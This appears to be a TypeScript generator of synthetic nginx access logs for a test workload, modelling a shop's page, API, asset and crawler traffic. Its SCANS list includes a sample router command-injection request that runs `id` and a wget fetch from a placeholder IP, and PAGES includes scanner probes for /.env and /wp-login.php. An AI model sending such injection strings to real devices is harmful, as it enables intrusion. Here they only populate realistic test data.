// An access log of nginx in its combined format: a shop with pages, an API, assets, crawlers and scanners.

import type { Random } from '../random.ts'
import type { Workload } from './workload.ts'

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec']
const ZONE_MS = 9 * 3_600_000
const BEGIN_MS = Date.UTC(2026, 10, 19, 15)
const LINES_PER_SECOND = 40

export const nginx: Workload = {
  name: 'nginx',
  pipeline: { parse: [{ format: 'nginx' }], destination: { dataset: 'nginx.access' } },
  records(random) {
    const visitors = Array.from({ length: 20_000 }, () => address(random))
    const agents = Array.from({ length: 400 }, () => userAgent(random))
    const now = clock(random)
    return () => {
      const who = `${random.skewed(visitors)} - ${random.chance(0.02) ? random.pick(USERS) : '-'}`
      if (random.chance(0.003)) return `${who} [${now()}] "${random.pick(SCANS)}" 400 157 "-" "-"`
      const [method, target, status, bytes] = request(random)
      const version = random.chance(0.7) ? '2.0' : '1.1'
      return `${who} [${now()}] "${method} ${target} HTTP/${version}" ${status} ${bytes} "${referrer(random)}" "${random.skewed(agents)}"`
    }
  }
}

/** The time in nginx's `$time_local`, going on by chance. */
function clock(random: Random): () => string {
  let second = 0
  let text = ''
  return () => {
    if (text !== '' && !random.chance(1 / LINES_PER_SECOND)) return text
    second += 1
    const at = new Date(BEGIN_MS + ZONE_MS + second * 1000)
    const [date, time] = at.toISOString().split('T') as [string, string]
    text = `${date.slice(8)}/${MONTHS[at.getUTCMonth()]}/${date.slice(0, 4)}:${time.slice(0, 8)} +0900`
    return text
  }
}

function address(random: Random): string {
  const hex = () => random.below(65_536).toString(16)
  if (random.chance(0.08)) return `2001:db8:${hex()}:${hex()}::${hex()}`
  const byte = () => random.below(256)
  return `${random.pick(['192.0.2', '198.51.100', '203.0.113', `10.${byte()}.${byte()}`])}.${byte()}`
}

const USERS = ['admin', 'deploy', 'reports', 'ops']

/** What comes to the port of every web server, as nginx writes it. */
const SCANS = [
  '-',
  '\\x16\\x03\\x01\\x00\\xEE\\x01\\x00\\x00\\xEA\\x03\\x03\\xC3\\x9A',
  '\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr',
  'GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget http://192.0.2.9/x`) HTTP/1.1'
]

type Request = readonly [method: string, target: string, status: number, bytes: number]

function request(random: Random): Request {
  const kind = random.below(100)
  const id = random.below(90_000) + 10_000
  const status = random.chance(0.93) ? 200 : random.pick(STATUSES)
  if (kind < 35) {
    const asset = `/static/${random.pick(ASSETS)}.${id.toString(16)}.${random.pick(['js', 'css', 'woff2', 'svg', 'webp'])}`
    return random.chance(0.3) ? ['GET', asset, 304, 0] : ['GET', asset, 200, random.below(180_000)]
  }
  if (kind < 60) {
    const sort = `sort=${random.pick(['price', 'newest', 'rating'])}&page=${random.below(40)}&utm_source=newsletter`
    const query = random.chance(0.4) ? `?${sort}` : ''
    return ['GET', `/products/${random.skewed(CATEGORIES)}/${id}${query}`, status, random.below(60_000) + 2_000]
  }
  if (kind < 70) {
    const query = `q=${random.skewed(SEARCHES)}&page=${random.below(9)}&lang=${random.pick(['ko', 'en'])}`
    return ['GET', `/search?${query}`, status, random.below(30_000) + 1_000]
  }
  if (kind < 92) {
    const path = `/api/v2/${random.pick(['carts', 'orders', 'users', 'stock'])}/${id}${random.pick(['', '/items', '/events?since=1795183912345&limit=50'])}`
    return [random.skewed(['GET', 'POST', 'PUT', 'PATCH', 'DELETE']), path, status, random.below(4_000)]
  }
  return random.chance(0.5) ? ['HEAD', '/', 200, 0] : ['GET', random.pick(PAGES), status, random.below(20_000)]
}

const STATUSES = [301, 302, 404, 404, 404, 403, 401, 429, 499, 500, 502, 503]
const ASSETS = ['app/main', 'app/vendor', 'app/checkout', 'fonts/noto-sans-kr', 'img/banner', 'img/icons/sprite']
const CATEGORIES = ['shoes', 'jackets', 'bags', 'kitchen', 'garden', 'books', 'toys', 'camping', 'bicycles']
const SEARCHES = [
  'running+shoes',
  'rain%20jacket%20%22xl%22',
  '%EC%9A%B4%EB%8F%99%ED%99%94',
  'tent+4+persons',
  '%EA%B2%A8%EC%9A%B8%20%EC%9E%90%EC%BC%93',
  'caf%C3%A9+cups'
]
const PAGES = ['/', '/about', '/help/returns', '/robots.txt', '/sitemap.xml', '/wp-login.php', '/.env', '/cart']

function referrer(random: Random): string {
  if (random.chance(0.35)) return '-'
  if (random.chance(0.2)) return random.pick(['https://www.google.com/', 'https://search.naver.com/search.naver'])
  const page = `/products/${random.skewed(CATEGORIES)}/${random.below(90_000) + 10_000}`
  return `https://shop.example${page}${random.chance(0.2) ? '?sort=price&page=2' : ''}`
}

function userAgent(random: Random): string {
  const chrome = `${100 + random.below(45)}.0.${random.below(7000)}.${random.below(200)}`
  const ios = `${15 + random.below(4)}.${random.below(7)}`
  const phone = random.pick(['SM-S928N', 'SM-G991B', 'Pixel 8', 'SM-A546S'])
  return random.skewed([
    `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${chrome} Safari/537.36`,
    `Mozilla/5.0 (Linux; Android 14; ${phone}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${chrome} Mobile Safari/537.36`,
    `Mozilla/5.0 (iPhone; CPU iPhone OS ${ios.replace('.', '_')} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/${ios} Mobile/15E148 Safari/604.1`,
    `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/${ios} Safari/605.1.15`,
    `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${chrome} Safari/537.36 Edg/${chrome}`,
    `Mozilla/5.0 (X11; Linux x86_64; rv:${120 + random.below(25)}.0) Gecko/20100101 Firefox/${120 + random.below(25)}.0`,
    'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    'Mozilla/5.0 (compatible; Yeti/1.1; +https://naver.me/spd)',
    'python-requests/2.32.3',
    'kube-probe/1.31',
    'Mozilla/5.0 zgrab/0.x \\x22scan\\x22'
  ])
}
